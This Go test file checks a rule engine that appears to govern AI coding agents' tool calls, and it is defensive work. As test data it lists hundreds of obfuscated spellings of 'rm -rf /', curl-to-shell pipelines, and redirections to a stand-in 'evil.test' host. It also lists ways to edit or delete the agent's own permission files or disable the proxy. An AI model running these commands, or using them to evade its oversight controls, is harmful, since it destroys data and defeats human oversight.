package rules

import (
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"dshproxy/netrule"
)

// judge gives the action of a rule file for a call, or "pass".
func judge(t *testing.T, text string, c Call) string {
	t.Helper()
	doc, err := Parse("f.yaml", []byte(text), Options{MaxGlobStars: 9})
	if err != nil {
		t.Fatal(err)
	}
	if c.Workspace == "" {
		c.Workspace = "/ws"
	}
	v, err := NewRuleset(doc.Rules).Match(c)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Matched {
		return "pass"
	}
	return v.Action.String()
}

// jsonOf is a JSON object with one string.
func jsonOf(key, value string) []byte {
	b, err := json.Marshal(map[string]string{key: value})
	if err != nil {
		panic(err)
	}
	return b
}

const denyRm = "rules:\n  - match: { argv: { command: [rm], args: ['-rf', '/'] } }\n    action: deny\n    reason: r\n"

// TestDenySeesThroughShell: however a shell spells it, a denied command is denied.
func TestDenySeesThroughShell(t *testing.T) {
	for _, command := range []string{
		"rm -rf /", "rm -fr /", "rm -r -f /", "rm  -f  -r  /", "/bin/rm -rf /", "../../bin/rm -rf /", `"rm" -rf /`, `r''m -rf /`, `r\m -rf /`, `$'rm' -rf /`, `$'\x72m' -rf /`,
		"rm -rf \\\n/", "rm -rf /\r\n", "true; rm -rf /", "true && rm -rf /", "true | rm -rf /", "true & rm -rf /", "true\nrm -rf /",
		"sudo rm -rf /", "sudo -u root rm -rf /", "doas rm -rf /", "env rm -rf /", "env A=1 B=2 rm -rf /", "A=1 rm -rf /", "timeout 5 rm -rf /", "timeout -k 1 5 rm -rf /",
		"nice -n 5 rm -rf /", "nohup rm -rf /", "stdbuf -oL rm -rf /", "time rm -rf /", "command rm -rf /", "builtin command rm -rf /", "exec rm -rf /", "xargs rm -rf /",
		"sudo env A=1 timeout 3 rm -rf /", `sh -c "rm -rf /"`, `bash -c 'rm -rf /'`, `sudo bash -c "rm -rf /"`, `bash -lc 'rm -rf /'`, `eval "rm -rf /"`, `eval rm -rf /`, `sh -c 'sh -c "rm -rf /"'`,
		"$(rm -rf /)", "`rm -rf /`", `echo "$(rm -rf /)"`, "echo $(echo $(rm -rf /))", "(rm -rf /)", "{ rm -rf /; }", "if true; then rm -rf /; fi", "for i in 1; do rm -rf /; done",
		"while true; do rm -rf /; done", "case x in x) rm -rf /;; esac", "f() { rm -rf /; }; f", "cat <(rm -rf /)", "! rm -rf /", "rm -rf / >/dev/null 2>&1", ">x rm -rf /",
		"sudo -nu root rm -rf /", "sudo -Eu root rm -rf /", "xargs -0I {} rm -rf /", "xargs -0n 1 rm -rf /", "xargs -i rm -rf /", "xargs --replace rm -rf /", "setarch x86_64 rm -rf /",
		`bash -c -- 'rm -rf /'`, `bash -c -e 'rm -rf /'`, `eval -- 'rm -rf /'`, `env --split-string='rm -rf /'`, `env -iS 'rm -rf /'`, `env -S'rm -rf /'`, "bash <<< 'rm -rf /'", `flock /tmp/l -c 'rm -rf /'`,
		`watch 'rm -rf /'`, `watch -n 1 'rm -rf /'`, `trap 'rm -rf /' EXIT`, `parallel 'rm -rf /' ::: x`, "bash <<E\nif true; then rm -rf /; fi\nE", "bash <<E\nbash -c 'rm -rf /'\nE", "sudo bash <<'E'\n(rm -rf /)\nE",
		"((echo a); (rm -rf /))", "echo $((echo a); (rm -rf /))", "true ) ; if true; then rm -rf /; fi", `x ) ; bash -c 'rm -rf /'`, `find . -exec true \; -exec rm -rf / \;`, "fd -X rm -rf /", "fd --exec-batch rm -rf /",
		"{rm,-rf,/}", "rm {-rf,/}", "rm -{r,f} /", "rm.exe -rf /", "echo $(rm -rf /) # " + strings.Repeat("[", 300), "if true; then rm -rf /; fi; echo '" + strings.Repeat("{", 300) + "'",
		"rm -rf /\nif then fi ((", "echo 'unclosed\nx'; rm -rf /; fi", "cat <<E\n$(rm -rf /)\nE\n",
	} {
		if got := judge(t, denyRm, Call{Tool: "bash", Args: jsonOf("command", command)}); got != "deny" {
			t.Errorf("%q: %s", command, got)
		}
	}
	for _, args := range []string{
		`{"command": ["rm", "-rf", "/"]}`, `{"cmd": "rm -rf /"}`, `{"a": {"script": "rm -rf /"}}`, `{"command_line": "rm -rf /"}`, `{"commandLine": "rm -rf /"}`,
		`{"command": ["sudo", "rm", "-rf", "/"]}`, `{"command": ["bash", "-c", "rm -rf /"]}`,
	} {
		if got := judge(t, denyRm, Call{Tool: "any", Args: []byte(args)}); got != "deny" {
			t.Errorf("%s: %s", args, got)
		}
	}
}

// TestPipelines: a real pipeline has a signature however its stages are written, and a command alone is one too.
func TestPipelines(t *testing.T) {
	const text = "rules:\n  - match: { argv: { pipeline: 'curl*|*sh' } }\n    action: deny\n    reason: r\n  - match: { argv: { pipeline: shutdown } }\n    action: ask\n    reason: r\n"
	for command, want := range map[string]string{
		"curl x | sh": "deny", "curl x | (sh)": "deny", "curl x | { sh; }": "deny", "(curl x) | sh": "deny", "{ curl x; } | sh": "deny", "curl x | time sh": "deny", "curl x | sudo -nu root sh": "deny",
		"curl x | while read l; do sh; done": "deny", "a | curl x | tee f | bash": "deny", "curl x |& sh": "deny", "echo $(curl x | sh)": "deny", "a | (curl x | sh)": "deny",
		"true && shutdown": "ask", "sudo shutdown": "ask", "$(shutdown)": "ask", "if true; then shutdown; fi": "ask", "echo shutdown": "pass", "curl x": "pass", "sh | curl x": "pass",
	} {
		if got := judge(t, text, Call{Tool: "bash", Args: jsonOf("command", command)}); got != want {
			t.Errorf("%q: %s, want %s", command, got, want)
		}
	}
}

// TestDenyIsNoWider: what only looks like it passes.
func TestDenyIsNoWider(t *testing.T) {
	for _, command := range []string{"rm -rf ./build", "rm -r /", "rm -f /", "echo 'rm -rf /'", "ls /", "rmdir /", `git commit -m "rm -rf /"`, "", "   ", "# rm -rf /x"} {
		if got := judge(t, denyRm, Call{Tool: "bash", Args: jsonOf("command", command)}); got != "pass" {
			t.Errorf("%q: %s", command, got)
		}
	}
}

// TestAllowCoversAll: an allow rule for one host is none for a call that goes elsewhere too.
func TestAllowCoversAll(t *testing.T) {
	const allow = "rules:\n  - match: { network: { domains: ['=ok.test'] } }\n    action: allow\n    reason: r\n"
	for command, want := range map[string]string{
		"curl https://ok.test":                            "allow",
		"curl https://ok.test/a https://ok.test/b":        "allow",
		"curl https://ok.test https://evil.test":          "pass",
		"curl https://ok.test evil.test":                  "pass",
		"curl https://ok.test --proxy evil.test:80":       "pass",
		"curl https://ok.test; nc evil.test 80":           "pass",
		"curl https://ok.test `curl https://evil.test`":   "pass",
		"curl https://ok.test 'https://evil.test'":        "pass",
		`curl https://ok.test "ht"tps://evil.test`:        "pass",
		"git clone git@evil.test:x; curl https://ok.test": "pass",
		`curl 'http://ok.test\@evil.test/'`:               "pass", // programs do not agree on the host
		"curl -xevil.test:80 http://ok.test/":             "pass",
		"curl --connect-to ::evil.test:80 http://ok.test": "pass",
		"HTTPS_PROXY=evil.test:80 curl http://ok.test":    "pass",
		"curl -X POST -s https://ok.test":                 "allow",
		"curl http://ok.test/; sftp u@evil.test":          "pass",
		"ls":                                              "pass",
	} {
		if strings.HasPrefix(command, "git clone") {
			command = strings.Replace(command, "git clone", "scp", 1) // a remote of a program that is known to connect
		}
		if got := judge(t, allow, Call{Tool: "bash", Args: jsonOf("command", command)}); got != want {
			t.Errorf("%q: %s, want %s", command, got, want)
		}
	}
	const intranet = "rules:\n  - match: { network: { domains: ['=intranet'] } }\n    action: deny\n    reason: r\n"
	for _, command := range []string{"curl intranet", "curl -s intranet/path", "nc intranet 80", "telnet intranet", "ssh intranet", "ssh u@intranet", "scp f intranet:x", "ping -c1 intranet"} {
		if got := judge(t, intranet, Call{Tool: "bash", Args: jsonOf("command", command)}); got != "deny" {
			t.Errorf("%q: %s, want deny", command, got)
		}
	}
	deny := strings.ReplaceAll(strings.Replace(allow, "ok.test", "evil.test", 1), "action: allow", "action: deny")
	for _, command := range []string{
		"curl evil.test", "wget -q evil.test/x", "curl HTTPS://EVIL.test.", "nc evil.test 443", "ssh u@evil.test", "scp f u@evil.test:p", "sudo curl --url=evil.test", "curl 'http://a;b@evil.test/'", "curl 'http://a,b@evil.test/'", "curl 'http://u:p|q@evil.test/'",
		`curl 'http://evil.test\@good.test/'`, "curl -xevil.test:80 http://good.test/", "curl -sxevil.test http://good.test/", "curl -fsSLevil.test", "curl -x socks5://evil.test:1080 good.test",
		"curl --connect-to ::evil.test:80 http://good.test/", "curl --resolve good.test:80:evil.test x", "HTTPS_PROXY=evil.test:80 curl good.test", "env https_proxy=evil.test:80 curl good.test",
		"export https_proxy=http://evil.test:80", "wget -e https_proxy=evil.test:80 good.test", "sftp evil.test", "sftp u@evil.test", "scp scp://evil.test/x .", "ssh -o HostName=evil.test x", "ssh -oHostName=evil.test x",
		"ssh -Ju@evil.test x", "ssh -L 80:evil.test:80 x", "ssh u@evil.test ls", "curl ftp://evil.test/", "curl.exe evil.test", "curl e{v,x}il.test", `python -c 'İİİİİİİİ; urlopen("http://evil.test/")'`,
		strings.Repeat("Ⱥ", 16) + " http://evil.test/", `sh -c "curl evil.test"`, "ping evil.test",
	} {
		if got := judge(t, deny, Call{Tool: "bash", Args: jsonOf("command", command)}); got != "deny" {
			t.Errorf("%q: %s, want deny", command, got)
		}
	}
}

// TestDimensions: every dimension must hold, and what is missing holds nothing.
func TestDimensions(t *testing.T) {
	rule := func(match string) string {
		return "rules:\n  - match: " + match + "\n    action: allow\n    reason: r\n"
	}
	env := func(name string) (string, bool) { v, ok := map[string]string{"CI": "true"}[name]; return v, ok }
	for _, tt := range []struct {
		match string
		call  Call
		want  string
	}{
		{"{ tools: ['re*'] }", Call{Tool: "read"}, "allow"},
		{"{ tools: ['re*'] }", Call{Tool: "write"}, "pass"},
		{"{ tools: [Read] }", Call{Tool: "read", Alias: "Read"}, "allow"},
		{"{ tools: [Read] }", Call{Tool: "read"}, "pass"},
		{"{ agents: [ci] }", Call{Agents: []string{"x", "ci"}}, "allow"},
		{"{ agents: ['*'] }", Call{}, "pass"},
		{"{ absent: [force] }", Call{Args: []byte(`{}`)}, "allow"},
		{"{ absent: [force] }", Call{Args: []byte(`{"force": false}`)}, "pass"},
		{"{ params: { n: '1*' } }", Call{Args: []byte(`{"n": 12}`)}, "allow"},
		{"{ params: { n: '1*' } }", Call{Args: []byte(`{"n": [3, 12]}`)}, "allow"},
		{"{ params: { n: '1*' } }", Call{Args: []byte(`{"n": {}}`)}, "pass"},
		{"{ params: { n: '1*' } }", Call{Args: []byte(`["n"]`)}, "pass"},
		{"{ params: { n: '1*' } }", Call{}, "pass"},
		{"{ params: { n: ['*', '!12'] } }", Call{Args: []byte(`{"n": 12}`)}, "pass"},
		{"{ paths: ['src/**'] }", Call{Args: []byte(`{"path": "/ws/src/a"}`)}, "allow"},
		{"{ paths: ['src/**'] }", Call{Args: []byte(`{"path": "src/../etc"}`)}, "pass"},
		{"{ paths: ['src/**'] }", Call{Args: []byte(`{"path": "/else/src/a"}`)}, "pass"},
		{"{ paths: ['src/**'] }", Call{Args: []byte(`{"path": "a"}`), Cwd: "/ws/src"}, "allow"},
		{"{ paths: ['src/**'] }", Call{Args: []byte(`{"path": "src/a"}`), Cwd: "/else"}, "pass"},
		{"{ paths: ['src/**'] }", Call{Args: []byte(`{"path": "../src/a"}`), Cwd: "/ws/lib"}, "allow"},
		{"{ paths: ['src/**'] }", Call{Args: []byte(`{"path": "../src/a"}`), Cwd: "/ws/lib/x"}, "pass"},
		{"{ when: { env: { CI: 'true' } } }", Call{Host: Host{Env: env}}, "allow"},
		{"{ when: { env: { CD: '*' } } }", Call{Host: Host{Env: env}}, "pass"},
		{"{ when: { platform: linux } }", Call{Host: Host{Platform: "darwin"}}, "pass"},
		{"{ tools: [a], params: { x: y } }", Call{Tool: "a", Args: []byte(`{"x": "z"}`)}, "pass"},
	} {
		if got := judge(t, rule(tt.match), tt.call); got != tt.want {
			t.Errorf("%s on %s %s: %s, want %s", tt.match, tt.call.Tool, tt.call.Args, got, tt.want)
		}
	}
}

// TestArgumentsThatAreNoJSON are an error, and the caller refuses.
func TestArgumentsThatAreNoJSON(t *testing.T) {
	s := NewRuleset(nil)
	for _, args := range []string{"{", "{} {}", "nul", "{a: 1}", `"x`, strings.Repeat("[", 20_000)} {
		if _, err := s.Match(Call{Args: []byte(args)}); err == nil {
			t.Errorf("%.20q: no error", args)
		}
		if _, err := Floor(Call{Args: []byte(args)}); err == nil {
			t.Errorf("%.20q: no error of the floor", args)
		}
	}
}

// TestFloor: what the program that is governed may not do, and what it may.
func TestFloor(t *testing.T) {
	bash := func(command string) Call { return Call{Tool: "bash", Args: jsonOf("command", command)} }
	for _, tt := range []struct {
		call Call
		want bool
	}{
		{Call{Tool: "write", Args: jsonOf("path", ".dsh/rules.yaml")}, true},
		{Call{Tool: "edit", Alias: "Edit", Args: jsonOf("file_path", "/any/where/.dsh/rules.yaml")}, true},
		{Call{Tool: "edit", Args: jsonOf("file_path", "src/../.DSH//rules.yaml")}, true},
		{Call{Tool: "edit", Args: jsonOf("file_path", ".claude/settings.local.json")}, true},
		{Call{Tool: "edit", Args: jsonOf("file_path", "/etc/dshproxy/proxy.yaml")}, true},
		{Call{Tool: "apply_patch", Args: []byte(`{"files": ["a", ".dsh/rules.yaml"]}`)}, true},
		{Call{Tool: "write", Args: jsonOf("path", "/home/u/.local/state/dshproxy/accepted/1.json")}, true},
		{Call{Tool: "write", Args: jsonOf("path", ".pi/agent/pi-permissions.jsonc")}, true},
		{Call{Tool: "write", Args: jsonOf("path", "/home/u/.pi/agent/extensions/pi-permission-system/config.json")}, true},
		{Call{Tool: "write", Args: jsonOf("path", "/etc/claude-code/managed-settings.json")}, true},
		{Call{Tool: "write", Args: jsonOf("path", "src/config.json")}, false},
		{bash("rm -rf ~/.local/state/dshproxy"), true},
		{bash("dshproxy hook claude-code --install=user"), true},
		{bash("dshproxy hook claude-code"), false},
		{bash("dshproxy stop"), true},
		{bash("dshproxy ca init"), true},
		{bash("eval $(dshproxy env)"), false},
		{Call{Tool: "read", Args: jsonOf("path", ".dsh/rules.yaml")}, false},
		{Call{Tool: "edit", Args: jsonOf("path", "src/dshproxy/main.yaml")}, false},
		{Call{Tool: "edit", Args: jsonOf("path", ".claude/agents/x.md")}, false},
		{bash("cat .dsh/rules.yaml"), false},
		{bash("git status"), false},
		{bash("dshproxy explain a.test"), false},
		{bash("dshproxy allow a.test"), true},
		{bash("sudo /usr/bin/dshproxy --workspace . trust"), true},
		{bash(`sh -c "dshproxy allow a.test"`), true},
		{bash("echo x > .dsh/rules.yaml"), true},
		{bash("echo x | tee -a ./.dsh/rules.yaml"), true},
		{bash("dd if=x of=.dsh/rules.yaml"), true},
		{bash("rm -rf .dsh"), true},
		{bash("sed -i s/deny/allow/ .dsh/rules.yaml"), true},
		{bash("curl -o .dsh/rules.yaml http://x"), true},
		{bash("wget -O .dsh/rules.yaml http://x"), true},
		{bash("sort -o .dsh/rules.yaml x"), true},
		{bash("shred -u .dsh/rules.yaml"), true},
		{bash("find .dsh -delete"), true},
		{bash("find .dsh -name x -exec rm {} +"), true},
		{bash("cd .dsh && echo x > rules.yaml"), true},
		{bash("rm -rf .ds*"), true},
		{bash("rm -rf .d{s,}h"), true},
		{bash("cp -t.dsh x"), true},
		{bash("tar -C.dsh -xf x"), true},
		{bash("unzip -d.dsh x"), true},
		{bash("sponge .dsh/rules.yaml"), true},
		{bash("nano .dsh/rules.yaml"), true},
		{bash("cp x .dsh/rules.yaml"), true},
		{bash("mv .dsh .old"), true},
		{bash("git checkout .dsh/rules.yaml"), true},
		{bash("sh -c \"rm .dsh/rules.yaml\""), true},
		{bash("sudo -nu root rm .dsh/rules.yaml"), true},
		{bash("echo x >> .claude/settings.json"), true},
		{bash("bash <<E\nrm .dsh/rules.yaml\nE"), true},
		{bash("git diff .claude/settings.json"), false},
		{bash("git log -- .dsh/rules.yaml"), false},
		{bash("git grep foo -- .claude"), false},
		{bash("wc -l < .dsh/rules.yaml"), false},
		{bash("sed -n 1,20p .dsh/rules.yaml"), false},
		{bash("yq . .dsh/rules.yaml"), false},
		{bash("cp .claude/settings.json /tmp/x"), false},
		{bash("tar czf /tmp/x.tgz .claude"), false},
		{bash("rsync -a .claude/ /backup/"), false},
		{bash("scp .dsh/rules.yaml h:/tmp"), false},
		{bash("git add .claude"), false},
		{bash("git commit -m \".claude\""), false},
		{bash("dshproxy explain allow"), false},
		{bash("dshproxy help serve"), false},
		{bash("dshproxy allow --help"), false},
		{bash("cat > README.md <<'E'\ncp x .dsh/rules.yaml\ndshproxy serve\nE"), false},
		{bash("ls -la"), false},
		{bash("echo .dsh"), false},
		{bash("mkdir -p src/.d"), false},
		{bash("npm run build"), false},
		{Call{Tool: "write", Args: jsonOf("path", "rules.yaml"), Cwd: "/ws/.dsh"}, true},
		{Call{Tool: "bash", Args: jsonOf("command", "echo x > rules.yaml"), Cwd: "/ws/.dsh"}, true},
		{Call{Tool: "write", Args: jsonOf("filePath", "/ws/.dsh/rules.yaml")}, true},
		{Call{Tool: "write", Args: []byte(`{"path": {"x": " .dsh/rules.yaml"}}`)}, true},
		{Call{Tool: "move_file", Args: []byte(`{"source": "a", "destination": ".dsh/rules.yaml"}`)}, true},
		{Call{Tool: "apply_patch", Args: jsonOf("input", "*** Begin Patch\n*** Update File: .dsh/rules.yaml\n@@\n")}, true},
		{Call{Tool: "insert", Args: jsonOf("path", ".dsh/rules.yaml")}, true},
		{Call{Tool: "write", Args: []byte(`{"path": "README.md", "content": "see .dsh/rules.yaml\nfor the rules\n"}`)}, false},
		{Call{Tool: "read_file", Args: jsonOf("path", ".dsh/rules.yaml")}, false},
	} {
		reason, err := Floor(tt.call)
		if err != nil || (reason != "") != tt.want {
			t.Errorf("%s %s: %q, %v, want a denial: %t", tt.call.Tool, tt.call.Args, reason, err, tt.want)
		}
	}
}

// TestHostileCalls end soon, whatever they hold.
func TestHostileCalls(t *testing.T) {
	text := denyRm + "  - match: { params: { x: '*a*a' } }\n    action: deny\n    reason: r\n  - match: { network: { domains: ['*a*.test'] } }\n    action: ask\n    reason: r\n"
	doc, err := Parse("f.yaml", []byte(text), Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := NewRuleset(doc.Rules)
	for name, args := range map[string][]byte{
		"long command":  jsonOf("command", strings.Repeat("a ", 1<<19)),
		"long word":     jsonOf("command", strings.Repeat("a", 1<<20)),
		"brackets":      jsonOf("command", strings.Repeat("(", 1<<18)),
		"substitutions": jsonOf("command", strings.Repeat("$(", 1<<18)),
		"quotes":        jsonOf("command", strings.Repeat(`"'`, 1<<18)),
		"sh -c":         jsonOf("command", strings.Repeat("sh -c ", 1<<16)+"rm"),
		"wrappers":      jsonOf("command", strings.Repeat("sudo ", 1<<17)),
		"two errors":    jsonOf("command", "<<0&  \n"),
		"stages":        jsonOf("command", "rm x; "+strings.Repeat("a|", 20_000)+"a"),
		"inner texts":   jsonOf("command", strings.Repeat(`su su su su su su su su -c "`, 200)+"rm"),
		"su":            jsonOf("command", nestedSu(6)),
		"eval":          jsonOf("command", strings.Repeat("eval ", 50_000)),
		"many evals":    jsonOf("command", strings.Repeat(strings.Repeat("eval ", 70)+"a;", 600)),
		"many URLs":     []byte(`{"url": [` + strings.Repeat(`"http://a/",`, 100_000) + `"http://b/"]}`),
		"split words":   []byte(`{"command": [` + strings.Repeat(`"sudo",`, 100_000) + `"rm"]}`),
		"and lists":     jsonOf("command", strings.Repeat("a&&", 80_000)+"a"),
		"pipes":         jsonOf("command", strings.Repeat("a|", 1<<17)+"a"),
		"URLs":          jsonOf("command", strings.Repeat("http://a ", 1<<16)),
		"here-docs":     jsonOf("command", strings.Repeat("cat <<E\n", 1<<14)),
		"values":        jsonOf("command", "for x in a b c d e f g h i j k l m n o p; do :; done; set -- a; set -- b; set -- c; set -- d; "+strings.Repeat("$x $1 ", 10_000)),
		"value words":   jsonOf("command", "for x in a b c d e f g h i j k l m n o p; do :; done; "+strings.Repeat("$x;", 30_000)),
		"outputs":       jsonOf("command", strings.Repeat("$(echo ", 400)+"x"+strings.Repeat(")", 400)),
		"output values": jsonOf("command", "for x in a b c d e f g h; do :; done; "+strings.Repeat("$(echo $x ", 400)+"x"+strings.Repeat(")", 400)),
		"printf":        jsonOf("command", "printf '"+strings.Repeat("x", 60_000)+"%s' "+strings.Repeat("a ", 30_000)+"| sh"),
		"braces":        jsonOf("command", strings.Repeat("{a,b}{c,d}{e,f} ", 8_000)),
		"nested braces": jsonOf("command", "a"+strings.Repeat("{a,", 400)+strings.Repeat("}", 400)),
		"errors":        jsonOf("command", strings.Repeat("(( ))\n", 18_000)),
		"open errors":   jsonOf("command", strings.Repeat("(( )) \"$(", 12_000)),
		"backquotes":    jsonOf("command", "(( ))\n"+strings.Repeat("`", 100_000)),
		"env -S":        jsonOf("command", strings.Repeat("env -S 'a=1 b=2' ", 6_000)),
		"aliases":       jsonOf("command", "alias a='a a a a'; "+strings.Repeat("a;", 50_000)),
		"xargs":         jsonOf("command", "echo "+strings.Repeat("a ", 50_000)+"| xargs -I{} sh -c '{} {} {} {}'"),
		"sed":           jsonOf("command", "sed '"+strings.Repeat("w ", 60_000)+"'"),
		"folders":       jsonOf("command", strings.Repeat("cd a;", 25_000)),
		"odd hosts":     jsonOf("command", "curl "+strings.Repeat("{a,b}@c%41\\\\d:x ", 7_000)),
		"deep JSON":     []byte(strings.Repeat(`{"command":`, 9_000) + "1" + strings.Repeat("}", 9_000)),
		"wide JSON":     []byte("[" + strings.Repeat("1,", 1<<18) + "1]"),
		"stars":         jsonOf("x", strings.Repeat("a", 1<<20)+"b"),
	} {
		start := time.Now()
		c := Call{Tool: "bash", Args: args, Workspace: "/ws", Protected: []string{"/ws/policy/rules.yaml", "/etc/x"}}
		if _, err := s.Match(c); err != nil {
			t.Logf("%s: %v", name, err)
		}
		if _, err := Floor(c); err != nil {
			t.Logf("%s: floor: %v", name, err)
		}
		// The bound is far above what a calm machine needs: it tells a hang from slowness under the race detector.
		t.Logf("%s: %v", name, time.Since(start))
		if took := time.Since(start); took > 5*time.Second {
			t.Errorf("%s took %v", name, took)
		}
	}
}

// FuzzShellViews: no token of the lexical view is lost in the views that deny rules see besides, as long as the text has
// nothing that a shell expands or runs in place.
func FuzzShellViews(f *testing.F) {
	for _, s := range []string{"rm -rf /", "a | b && c", "sudo env A=1 b c", `sh -c "a 'b c'"`, "a >b <c", "if a; then b; fi", "a \\\n b", "x$(y)z"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		facts, err := newFacts(&Call{Tool: "bash", Args: jsonOf("command", text)})
		if err != nil {
			t.Skip()
		}
		v := facts.shellViews()
		if strings.ContainsAny(text, "\x00$`'\"\\(){}<>#=[]~*?!;&|\r") || len(v.commands) > 1 || v.unparsed {
			return // nothing to compare; it has not crashed
		}
		var want []string
		for _, c := range splitLexically(facts.commandTexts()[0].text) {
			want = append(append(want, c.word), c.args...)
		}
		if len(v.commands) == 0 || len(want) == 0 {
			return
		}
		// A word that the shell keeps to itself, such as time, may stand before the command.
		got := append([]string{v.commands[0].word}, v.commands[0].args...)
		if len(got) > len(want) {
			t.Fatalf("%q: views %q, words %q", text, got, want)
		}
		want = want[len(want)-len(got):]
		if got[0] != baseName(want[0]) || !slices.Equal(got[1:], want[1:]) {
			t.Errorf("%q: views %q, words %q", text, got, want)
		}
	})
}

// nestedSu wraps a command in shells that wrap it in shells.
func nestedSu(levels int) string {
	text := "rm x"
	for range levels {
		text = strings.Repeat("su ", 60) + "-c " + strconv.Quote(text)
	}
	return text
}

func BenchmarkCall(b *testing.B) {
	var text strings.Builder
	text.WriteString("rules:\n")
	for i := range 256 {
		fmt.Fprintf(&text, "  - match: { argv: { command: [c%d], anyArg: ['--x*'] }, tools: [bash] }\n    action: deny\n    reason: r\n", i)
	}
	doc, err := Parse("f.yaml", []byte(text.String()), Options{})
	if err != nil {
		b.Fatal(err)
	}
	s := NewRuleset(doc.Rules)
	c := Call{Tool: "bash", Args: jsonOf("command", "go test ./... && git commit -m x"), Workspace: "/ws"}
	b.ReportAllocs()
	for b.Loop() {
		if v, err := s.Match(c); err != nil || v.Action != netrule.Deny {
			b.Fatal(v, err)
		}
	}
}
